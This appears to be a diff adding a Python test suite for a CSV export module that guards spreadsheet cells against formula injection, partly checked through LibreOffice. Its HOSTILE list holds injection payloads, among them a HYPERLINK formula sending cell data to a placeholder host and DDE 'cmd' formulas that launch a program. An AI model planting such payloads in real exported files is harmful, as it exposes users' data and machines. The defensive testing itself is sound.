@@ -1,0 +1,180 @@
+"""CSV for spreadsheets: no text is a formula in any of them, numbers stay numbers, and texts come back as they were."""
+
+import csv
+import re
+import shutil
+import subprocess
+import xml.etree.ElementTree as ElementTree
+from decimal import Decimal
+from io import StringIO
+from pathlib import Path
+
+import numpy as np
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from annotation import spreadsheets
+from annotation.spreadsheets import csv_line, csv_text, csv_write, guarded, plain
+
+SIGNS = "=+-@＝＋－＠"
+SEPARATORS = ",;\t\n"
+texts = st.text() | st.text(alphabet=f"{SIGNS}{SEPARATORS}\r'\" a1\u00a0\u200b|\ufeff", max_size=30)
+
+
+def normal(text: str) -> str:
+    """The text as a file of UTF-8 with one kind of line end can hold it."""
+    return re.sub(r"\r\n?", "\n", text.encode("utf-8", "backslashreplace").decode())
+
+
+def read(text: str, **dialect: str) -> list[list[str]]:
+    return list(csv.reader(StringIO(text, newline=""), **dialect))  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ("=LINK(1)", "'=LINK(1)"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("＝LINK(1)", "'＝LINK(1)"),
+        ("＋1", "'＋1"),
+        ("－1", "'－1"),
+        ("＠x", "'＠x"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\nx"),
+        ("\nx", "'\nx"),
+        ("\r=LINK(1)", "'\n'=LINK(1)"),
+        ("a,=1", "a,'=1"),
+        ("a;=1", "a;'=1"),
+        ("a\t=1", "a\t'=1"),
+        ("a\n=1", "a\n'=1"),
+        ("a\r\n=1", "a\n'=1"),
+        ("a; =1", "a;' =1"),
+        ('a;"=1', "a;'\"=1"),
+        (" =1", "' =1"),
+        ("'=1", "''=1"),
+        ("a;'=1", "a;''=1"),
+        ("half \ud800", "half \\ud800"),
+        ("plain, with a comma", "plain, with a comma"),
+        ("'Tis so; isn't it", "'Tis so; isn't it"),
+        ("a-b = c", "a-b = c"),
+        ("", ""),
+    ],
+)
+def test_what_could_begin_a_formula_is_guarded_and_nothing_else(text: str, cell: str) -> None:
+    assert guarded(text) == cell
+    assert plain(cell) == normal(text)
+
+
+@given(texts)
+def test_every_text_comes_back(text: str) -> None:
+    assert plain(guarded(text)) == normal(text)
+
+
+@given(texts, texts)
+def test_different_texts_are_different_cells(one: str, other: str) -> None:
+    assert (guarded(one) == guarded(other)) == (normal(one) == normal(other))
+
+
+@given(st.lists(texts, min_size=1, max_size=5))
+def test_a_row_comes_back(row: list[str]) -> None:
+    (cells,) = read(csv_line(row))
+    assert [plain(cell) for cell in cells] == [normal(text) for text in row]
+
+
+@given(st.lists(texts, min_size=1, max_size=4), st.sampled_from(SEPARATORS))
+def test_no_cell_begins_a_formula_whatever_separates_cells(row: list[str], separator: str) -> None:
+    """Spreadsheets set to another separator read our line otherwise: as quoted where a quote begins a cell."""
+    line = csv_line(row)
+    pieces = [cell for cells in read(line, delimiter=separator if separator != "\n" else ",") for cell in cells]
+    pieces += line.split(separator)  # by readers that know no quotes
+    for piece in pieces:
+        assert not piece.lstrip(' \u00a0\u200b\ufeff"').startswith(tuple(SIGNS)), piece
+
+
+@pytest.mark.parametrize("value", [-1, -1.5, Decimal("-2.50"), np.int64(-3), np.float32(-0.5), 1e-9])
+def test_numbers_stay_numbers(value: object) -> None:
+    assert csv_line([value, "-1"]) == f'{value},"\'-1"\n'
+
+
+def test_every_text_is_quoted_and_nothing_is_empty() -> None:
+    assert csv_line(["a", 1, None, "", True, 'say "x"']) == '"a",1,,"","True","say ""x"""\n'
+
+
+def test_no_text_begins_a_row_of_its_own() -> None:
+    assert read(csv_line(["x\r=LINK(1)", "y"])) == [["x\n'=LINK(1)", "y"]]
+
+
+def test_a_file_is_the_same_however_it_is_written() -> None:
+    columns, rows = ["a", "b"], [["=1", number] for number in range(1000)]
+    target = StringIO()
+    csv_write(target, columns, rows)
+    streamed = b"".join(spreadsheets.csv_stream("x.csv", columns, rows, together=7).streaming_content)  # type: ignore[arg-type]
+    whole = spreadsheets.csv_download("x.csv", columns, rows)
+    assert target.getvalue().encode() == streamed == whole.content == csv_text(columns, rows).encode()
+    assert whole["Content-Disposition"] == 'attachment; filename="x.csv"'
+
+
+HOSTILE = [
+    *(f"{sign}1+1" for sign in SIGNS),
+    *(f"a{separator}{sign}1+1" for separator in SEPARATORS for sign in SIGNS),
+    *('a;"=1+1', "a; =1+1", " =1+1", "'=1+1", "''=1+1", "\t=1+1", "\n=1+1", '"=1+1', '";=1+1'),
+    *("'Tis so", 'She said "no"; he left', "a, b", "-", "007", "1/2", "TRUE"),
+    '=HYPERLINK("http://x.invalid/?"&A1,"look")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
+TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
+SEPARATED_BY = {",": 44, ";": 59, "\t": 9}
+
+
+@pytest.mark.skipif(not shutil.which("soffice"), reason="Debian's libreoffice-calc is not installed")
+class TestLibreOffice:
+    """What LibreOffice makes of the file, set to each separator; it computes formulas, quoted ones too unless told."""
+
+    def converted(self, folder: Path, text: str, to: str, separator: str = ",", *, quoted_is_text: bool = True) -> str:
+        """The content of the file that it writes of ``text``."""
+        (folder / "page.csv").write_text(text, encoding="utf-8", newline="")
+        taken = f"CSV:{SEPARATED_BY[separator]},34,76,1,,0,{str(quoted_is_text).lower()},true"
+        profile = f"-env:UserInstallation=file://{folder}/profile"
+        command = ["soffice", profile, "--headless", f"--infilter={taken}", "--convert-to", to, "--outdir"]
+        done = subprocess.run(
+            [*command, str(folder / "out"), str(folder / "page.csv")], check=False, capture_output=True, timeout=300
+        )
+        (made,) = (folder / "out").iterdir()
+        content = made.read_text(encoding="utf-8")
+        assert done.returncode == 0, done.stderr
+        made.unlink()
+        return content
+
+    def formulas(self, folder: Path, text: str, separator: str) -> list[str]:
+        cells = self.cells(self.converted(folder, text, "fods", separator, quoted_is_text=False))
+        assert cells
+        return [formula for cell in cells if (formula := cell.get(f"{TABLE}formula"))]
+
+    def cells(self, flat: str) -> list[ElementTree.Element]:
+        return list(ElementTree.fromstring(flat).iter(f"{TABLE}table-cell"))
+
+    @pytest.mark.parametrize("separator", SEPARATED_BY)
+    def test_it_computes_nothing(self, tmp_path: Path, separator: str) -> None:
+        unguarded = "".join(f'"x"{separator}"{text}"\n' for text in ("=1+1", "-1", "=2+2"))
+        assert len(self.formulas(tmp_path, unguarded, separator)) == 2  # so it would be seen
+        rows = [[number, text, text] for number, text in enumerate(HOSTILE)]
+        assert self.formulas(tmp_path, csv_text(["number", "a", "b"], rows), separator) == []
+
+    def test_numbers_are_numbers_and_texts_are_texts(self, tmp_path: Path) -> None:
+        flat = self.converted(tmp_path, csv_text(["a", "b"], [[-1.5, "-1.5"], [Decimal("-2.50"), "007"]]), "fods")
+        kinds = [cell.get(f"{OFFICE}value-type") for cell in self.cells(flat) if cell.get(f"{OFFICE}value-type")]
+        values = [float(cell.get(f"{OFFICE}value", "nan")) for cell in self.cells(flat) if cell.get(f"{OFFICE}value")]
+        assert kinds == ["string", "string", "float", "string", "float", "string"]
+        assert values == [-1.5, -2.5]
+
+    def test_what_it_saves_comes_back(self, tmp_path: Path) -> None:
+        text = csv_text(["number", "text"], enumerate(HOSTILE))
+        saved = self.converted(tmp_path, text, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false")
+        head, *rows = read(saved)
+        assert head == ["number", "text"]
+        assert [plain(cell) for _, cell in rows] == [normal(text) for text in HOSTILE]
